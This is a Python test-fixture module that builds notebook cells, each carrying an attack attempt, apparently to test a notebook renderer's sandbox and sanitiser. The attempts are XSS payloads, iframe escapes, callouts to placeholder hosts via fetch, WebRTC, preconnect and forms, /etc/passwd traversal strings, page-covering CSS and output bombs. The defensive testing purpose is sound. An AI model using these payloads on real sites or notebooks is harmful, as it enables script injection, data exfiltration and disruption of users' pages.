"""Cells of a notebook, each of which tries to run a script in the page, to cover it, or to call out.

``URL/`` and ``HOST`` stand for the address of a server that waits for them; ``SPARE`` is one for
the only way that a frame has of opening a connection, over which then nothing is sent.
"""
# ruff: noqa: E501 # an attempt is easier to judge on one line

from __future__ import annotations

import base64
from typing import Any

from nbformat.v4 import new_code_cell, new_markdown_cell

DOTS = "../../../../etc/passwd"

# What a frame's script would do in the page if it could; each in a cell of its own.
REACHES = {
    "top": "top.pwned = 1",
    "parent": "parent.pwned = 1",
    "parent-document": "parent.document.body.innerHTML = 'pwned'",
    "parent-eval": "parent.eval('pwned = 1')",
    "parent-library": "parent.nbexp.libraries.x = 'pwned'",
    "frame-element": "frameElement.removeAttribute('sandbox'); parent.pwned = 1",
    "sibling": "parent.frames[0].document.body.append('pwned')",
    "top-location": "top.location = 'URL/top-location'",
    "top-replace": "top.location.replace('URL/top-replace')",
    "top-script-url": "top.location = 'javascript:pwned=1'",
    "own-location": "location = 'http://SPARE/own-location'",
    "own-data-url": "location = 'data:text/html,<script>fetch(\"URL/own-data\")</' + 'script>'",
    "own-file": "location = 'file:///etc/passwd'",
    "open": "open('URL/open')",
    "open-blank": "open('about:blank').document.write('<img src=URL/open-blank>')",
    "alerts": "for (let i = 0; i < 1000; i++) { alert(i); confirm(i); prompt(i); }",
    "print": "print()",
    "fetch": "fetch('URL/fetch', { mode: 'no-cors' })",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'URL/xhr'); x.send()",
    "beacon": "navigator.sendBeacon('URL/beacon', 'x')",
    "websocket": "new WebSocket('ws://HOST/websocket')",
    "events": "new EventSource('URL/events')",
    "image": "new Image().src = 'URL/image'",
    "import": "import('URL/import')",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('URL/worker')\"])))",
    "service-worker": "navigator.serviceWorker.register('URL/service-worker')",
    "web-rtc": "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] });"
    "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))",
    "link": "for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'prerender', 'preconnect', 'dns-prefetch',"
    " 'manifest', 'icon']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image';"
    " l.href = 'URL/link-' + rel; document.head.append(l); }",
    "preconnect": "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'URL/'; document.head.append(l)",
    "preconnect-html": "document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect href=URL/>')",
    "preconnect-write": "document.write('<LINK rel=preconnect href=URL/>')",
    "preconnect-pieces": "document.write('<lin'); document.write('k rel=preconnect href=URL/>'); document.write('<', 'link rel=preconnect href=URL/>'); document.writeln('<link'); document.write('rel=preconnect href=URL/>')",
    "preconnect-mixed": "document.write('<lin'); document.writeln('k rel=preconnect href=URL/>'); document.write('<LINK\\frel=preconnect href=URL/>')",
    "preconnect-ns": "const l = document.createElementNS('http://www.w3.org/1999/xhtml', 'h:link'); l.rel = 'preconnect'; l.href = 'URL/'; document.head.append(l)",
    "preconnect-xml": 'const d = new DOMParser().parseFromString(\'<h:link xmlns:h="http://www.w3.org/1999/&#120;html" rel="preconnect" href="URL/"/>\', \'text/xml\'); document.body.append(d.documentElement)',
    "preconnect-class": "class L extends HTMLLinkElement {} customElements.define('x-l', L, { extends: 'link' }); const l = new L(); l.rel = 'preconnect'; l.href = 'URL/'; document.head.append(l)",
    "preconnect-patched": "String.prototype.toLowerCase = () => 'div'; String.prototype.indexOf = () => -1; RegExp.prototype.test = () => false; const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'URL/'; document.head.append(l)",
    "preconnect-two-faced": "let n = 0; const l = document.createElement({ toString: () => (n++ ? 'link' : 'div') }); l.rel = 'preconnect'; l.href = 'URL/'; document.head.append(l)",
    "preconnect-range": "document.head.append(document.createRange().createContextualFragment('<link rel=preconnect href=URL/>'))",
    "preconnect-document": "const d = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link'); d.documentElement.rel = 'preconnect'; d.documentElement.href = 'URL/'; document.head.append(d.documentElement)",
    "policy-second": "trustedTypes.createPolicy('default', { createHTML: (x) => x }).createHTML('x')",
    "web-rtc-nested": "const f = document.createElement('iframe'); f.srcdoc = '<script>const c = new RTCPeerConnection({ iceServers: [{ urls: \"stun:HOST\" }] }); c.createDataChannel(1); c.createOffer().then((o) => c.setLocalDescription(o))</' + 'script>'; document.body.append(f)",
    "web-rtc-html": "document.body.innerHTML = '<iframe srcdoc=\"<script>const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:HOST` }] }); c.createDataChannel(1); c.createOffer().then((o) => c.setLocalDescription(o))</' + 'script>\"></iframe>'",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: ['URL/speculation'], eagerness: 'immediate' }], prerender: [{ urls: ['URL/prerender'], eagerness: 'immediate' }] }); document.head.append(s)",
    "web-transport": "new WebTransport('https://HOST/web-transport')",
    "ping": "const a = document.createElement('a'); a.href = '#'; a.ping = 'URL/ping'; document.body.append(a); a.click()",
    "link-click": "const a = document.createElement('a'); a.href = 'URL/link-click'; document.body.append(a); a.click()",
    "link-download": "const a = document.createElement('a'); a.href = 'URL/link-download'; a.download = 'x'; document.body.append(a); a.click()",
    "svg-link-click": "document.body.innerHTML = '<svg><a xlink:href=URL/svg-link><text>x</text></a></svg>'; document.querySelector('text').dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }))",
    "area-click": "document.body.innerHTML = '<map name=m><area href=URL/area></map>'; document.querySelector('area').click()",
    "credentials": "navigator.credentials.get({ identity: { providers: [{ configURL: 'URL/credentials', clientId: 'x' }] } })",
    "payment": "new PaymentRequest([{ supportedMethods: 'https://HOST/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()",
    "fetch-later": "fetchLater('URL/fetch-later', { activateAfter: 0 })",
    "attribution": "const i = new Image(); i.attributionSrc = 'URL/attribution'; i.src = 'URL/attribution-image'; document.body.append(i)",
    "track": "document.body.innerHTML = '<video src=URL/v poster=URL/poster><track src=URL/track default kind=captions></video><audio src=URL/a></audio>'",
    "css-inline": "document.body.style.cssText = 'background: image-set(\"URL/set\" 1x); cursor: url(URL/cursor), auto; list-style: url(URL/list); border-image: url(URL/border); mask: url(URL/mask#a); filter: url(URL/filter#a)'",
    "svg-use": "document.body.innerHTML = '<svg><use href=URL/use#a /><image href=URL/image /><filter id=f><feImage href=URL/fe /></filter><rect filter=url(#f) width=9 height=9 /></svg>'",
    "style-sheet": "const s = new CSSStyleSheet(); s.replace('@import \"URL/sheet\"; body { background: url(URL/sheet-image) }'); document.adoptedStyleSheets = [s]",
    "importmap": "document.body.append(Object.assign(document.createElement('script'), { type: 'importmap', textContent: '{\"imports\": {\"x\": \"URL/importmap\"}}' })); import('x')",
    "worklet": "CSS.paintWorklet.addModule('URL/worklet')",
    "shared-worker": "new SharedWorker('URL/shared-worker')",
    "cache": "caches.open('x').then((c) => c.add('URL/cache'))",
    "xslt": "new XSLTProcessor()",
    "execCommand": "document.body.contentEditable = true; document.body.focus(); document.execCommand('insertHTML', false, '<link rel=preconnect href=URL/><img src=URL/exec>')",
    "set-html": "document.body.setHTMLUnsafe('<template shadowrootmode=open><link rel=preconnect href=URL/></template><link rel=preconnect href=URL/>')",
    "set-html-safe": "document.body.setHTML('<link rel=preconnect href=URL/>', { sanitizer: { elements: ['link'], attributes: ['rel', 'href'] } })",
    "parse-html": "document.body.append(...Document.parseHTMLUnsafe('<link rel=preconnect href=URL/>').head.children)",
    "parser": "document.body.append(...new DOMParser().parseFromString('<link rel=preconnect href=URL/>', 'text/html').head.children)",
    "other-document": "const d = document.implementation.createHTMLDocument(''); d.body.innerHTML = '<link rel=preconnect href=URL/>'; document.body.append(...d.body.children)",
    "is": "const l = document.createElement('div', { is: 'link' }); l.outerHTML = '<Link rel=preconnect href=URL/>'",
    "meta-made": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=URL/meta-made'; document.head.append(m)",
    "meta-clone": "document.head.append(Object.assign(document.querySelector('meta').cloneNode(), { httpEquiv: 'refresh', content: '0;url=URL/meta-clone' }))",
    "font": "document.fonts.add(new FontFace('x', 'url(URL/font)')); document.fonts.load('1px x')",
    "video": "const v = document.createElement('video'); v.src = 'URL/video'; v.load()",
    "form": "const f = document.createElement('form'); f.action = 'URL/form'; f.method = 'post';"
    "document.body.append(f); f.submit()",
    "nested": "const f = document.createElement('iframe'); f.srcdoc = '<img src=URL/nested>"
    "<script>top.pwned = 1; fetch(\"URL/nested-fetch\")</' + 'script>'; document.body.append(f)",
    "nested-url": "const f = document.createElement('iframe'); f.src = 'URL/nested-url';"
    "document.body.append(f)",
    "heights": "for (const value of [1e9, -1, NaN, Infinity, '9', null, {}, [1], 1e308])"
    "parent.postMessage({ nbexp: 'height', value }, '*')",
    "flood": "for (let i = 0; i < 20000; i++)"
    "parent.postMessage({ nbexp: i % 2 ? 'height' : 'library', value: i, name: '__proto__' }, '*')",
    "messages": "for (const m of [null, 1, 'x', [], { nbexp: {} }, { nbexp: 'theme', value: 'x' },"
    "{ nbexp: 'library', name: { toString() { return 1 } }.x }]) parent.postMessage(m, '*')",
    "full-screen": "document.documentElement.requestFullscreen()",
    "storage": "localStorage.setItem('nbexp-theme', 'pwned'); document.cookie = 'pwned=1'",
    "history": "history.pushState({}, '', 'pwned'); history.back()",
    "popups-on-click": "document.onclick = () => { open('URL/click'); top.location = 'URL/click' }",
}

# HTML outputs; those with nothing that runs stand in the page, cleaned.
MARKUP = {
    "script-tag": "<script src='URL/script-tag'></script><script>pwned = 1</script>",
    "image-tag": "<img src='URL/image-tag' onerror='top.pwned = 1'>",
    "image-set": "<img srcset='URL/image-set 2x' src='x'><picture><source srcset='URL/set'></picture>",
    "handler": "<p onmouseover='top.pwned = 1' onclick='top.pwned = 1'>over</p>",
    "script-link": "<a href='javascript:top.pwned=1' style='display:block'>click</a>",
    "top-link": "<a href='URL/top-link' target='_top' style='display:block'>click</a><style></style>",
    "svg-tag": "<svg onload='top.pwned = 1'><script>top.pwned = 1</script>"
    "<image href='URL/svg-tag'/><foreignObject><body onload='top.pwned=1'/></foreignObject></svg>",
    "iframe-tag": "<iframe src='URL/iframe-tag'></iframe><iframe src='javascript:top.pwned=1'></iframe>",
    "object-tag": "<object data='URL/object-tag'></object><embed src='URL/embed-tag'>"
    "<portal src='URL/portal-tag'></portal><applet code='URL/applet'></applet>",
    "refresh": "<meta http-equiv='refresh' content='0;url=URL/refresh'>",
    "base": "<base href='URL/base/' target='_top'><img src='x'>",
    "policy": "</head><meta http-equiv='Content-Security-Policy' content='default-src *'>"
    "<img src='URL/policy'>",
    "form-tag": "<form action='URL/form-tag' method='post'><button>x</button></form>"
    "<script>document.forms[0].submit()</script>",
    "link-tag": "<link rel='stylesheet' href='URL/link-tag'><link rel='prefetch' href='URL/prefetch'>"
    "<link rel='dns-prefetch' href='//dns.invalid'>",
    "preconnect-tag": "<link rel=preconnect href='URL/'><LiNk/rel=preconnect href='URL/'>",
    "speculation-tag": '<script type=\'speculationrules\'>{ "prefetch": [{ "urls": ["URL/speculation-tag"], "eagerness": "immediate" }] }</script>',
    "web-rtc-tag": "<iframe srcdoc='<script>const c = new RTCPeerConnection({ iceServers: [{ urls: \"stun:HOST\" }] }); c.createDataChannel(1); c.createOffer().then((o) => c.setLocalDescription(o))</script>'></iframe>",
    "style-tag": "<style>@import 'URL/import-css'; body { background: url(URL/css) }"
    "@font-face { font-family: x; src: url(URL/css-font) } * { font-family: x !important }</style>x",
    "cover": "<style>* { position: fixed; inset: 0; z-index: 9999999; background: red }</style>x",
    "cover-inline": "<div style='position:fixed;inset:0;z-index:9999999;background:red'>x</div>",
    "cover-margin": "<div style='margin:-900px;width:9000px;height:9000px;background:red'>x</div>",
    "cover-size": "<div style='font-size:900px;line-height:900px'>x</div>",
    "cover-height": "<div style='height:100vh'></div><div style='height:999999px'></div><style></style>",
    "unclosed": "</div></article></main></body></html><plaintext><!-- <textarea><title><xmp>",
    "ids": "<a id='main' name='pwned'></a><img name='body'><form name='nbexp' id='nbexp'></form>",
    "classes": "<div class='skip-link page-header nb-cell' hidden>x</div>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img src onerror=top.pwned=1>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=top.pwned=1>'></noscript>",
    "template": "<template><img src='URL/template' onerror='top.pwned=1'></template>",
    "custom": "<x-frame onfocus='top.pwned=1' autofocus tabindex=0></x-frame>",
    "deep": "<div>" * 5_000,
    "colspan": "<table><tr><td colspan='99999999' rowspan='99999999'>x</td></tr></table>",
}

MARKDOWN = {
    "md-script": "<script>pwned = 1</script>\n\n<img src=x onerror=pwned=1>",
    "md-link": "[a](javascript:pwned=1) <a href='jav&#x09;ascript:pwned=1'>b</a> <javascript:pwned=1>",
    "md-image": "![a](URL/md-image) <img src='URL/md-raw'> ![b](//HOST/md-scheme)",
    "md-data": "[a](data:text/html,<script>pwned=1</script>) ![b](data:text/html;base64,AAAA)",
    "md-style": "<style>body { display: none }</style><div style='position:fixed;inset:0'>x</div>",
    "md-heading": "# main\n\n<h1 id='main' class='skip-link'>x</h1>",
    "md-fence": '```"><script>pwned=1</script>\nx\n```',
    "md-math": "$\\href{javascript:pwned=1}{x} \\includegraphics{URL/math}$ $\\text{<img src=URL/t>}$",
    "md-macros": "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}[1]{#1#1#1}\\b{\\b{\\b{\\b{x}}}}$ \\require{x}",
    "md-rule": "$\\rule{900em}{900em}\\hspace{9999em}\\style{position:fixed;inset:0}{x}$",
    "md-deep": "> " * 5_000 + "x\n\n" + "[" * 20_000,
    "md-unclosed": "</article></main></body><!-- <script> <textarea> <plaintext>",
    "md-base": "<base href='URL/md-base/'><meta http-equiv=refresh content='0;url=URL/md-refresh'>",
    "md-attachment": "![x](attachment:../../x%22onerror=pwned=1)",
}

SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1' width='99999' height='20'>"
    "<script>top.pwned=1</script><image href='URL/svg'/><style>@import 'URL/svg-css'</style></svg>"
)
DATA: dict[str, dict[str, Any]] = {
    "svg": {"image/svg+xml": SVG},
    "svg-big": {"image/svg+xml": SVG + "<!--" + "x" * 300_000 + "-->"},
    "script-mime": {"application/javascript": "top.pwned = 1; element.append('x')"},
    "script-end": {"application/javascript": "</script><script>top.pwned=1</script>"},
    "latex": {"text/latex": "$\\text{</math><img src=URL/latex onerror=pwned=1>}$"},
    "markdown-output": {"text/markdown": "<img src=URL/markdown-output onerror=pwned=1>"},
    "base64": {"image/png": "!!" + "A" * 100},
    "base64-quote": {"image/png": 'iVBORw0KGgo="><script>pwned=1</script>'},
    "html-as-image": {"image/jpeg": base64.b64encode(b"<script>pwned=1</script>").decode()},
    "mime-quote": {'x/"><script>pwned=1</script>': "x"},
    "big": {"text/plain": "x" * 5_000_000},
    "big-html": {"text/html": "<script>top.pwned = 1; fetch('URL/big')</script>" + "x" * 300_000},
    "json": {"application/json": {"</script><script>pwned=1</script>": "<img src=URL/json>"}},
    "scrap": {
        "application/scrapbook.scrap.json+json": {
            "name": f"{DOTS}\"'><script>pwned=1</script>",
            "data": "<img src=URL/scrap onerror=pwned=1>",
        }
    },
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "evil"}, "text/plain": "w"},
    "download": {"application/x-new": "<script>pwned=1</script>"},
}
TEXTS = {
    "ansi": "\x1b[31m<script>pwned=1</script>\x1b]8;;javascript:pwned=1\x07x\x1b]8;;\x07",
    "ansi-bomb": "\x1b[9999999B\x1b[9999999Cx\x1b[2J\x1b[31m" * 5_000 + "\x1b[" * 5_000,
    "ansi-style": '\x1b[38;2;1;2;3;"><script>pwned=1</script>m x \x1b[38;5;999m',
    "returns": "x\r" * 100_000,
}
EVIL_WIDGET = {
    "model_name": "HTMLModel",
    "state": {"value": "<img src=URL/widget onerror=pwned=1><script>pwned=1</script>"},
}


def attempts() -> dict[str, Any]:
    """Return a cell for each attempt."""
    cells = {name: new_markdown_cell(source) for name, source in MARKDOWN.items()}
    frames = {name: f"<script>{code}</script>frame" for name, code in REACHES.items()}
    for name, html in {**MARKUP, **frames}.items():
        DATA[name] = {"text/html": html}
    for name, data in DATA.items():
        output = {"output_type": "display_data", "data": data, "metadata": {}}
        cells[name] = {"cell_type": "code", "source": f"# {name}", "outputs": [output]}
    for name, text in TEXTS.items():
        output = {"output_type": "stream", "name": "stdout", "text": text}
        cells[name] = {"cell_type": "code", "source": f"# {name}", "outputs": [output]}
    trace = ["<script>pwned=1</script>\x1b[31m"]
    error = {
        "output_type": "error",
        "ename": "<b>E",
        "evalue": "<img src=URL/e>",
        "traceback": trace,
    }
    cells["error"] = new_code_cell('"</code><script>pwned=1</script>"')
    cells["error"]["outputs"] = [error]
    return cells


ATTEMPTS = attempts()
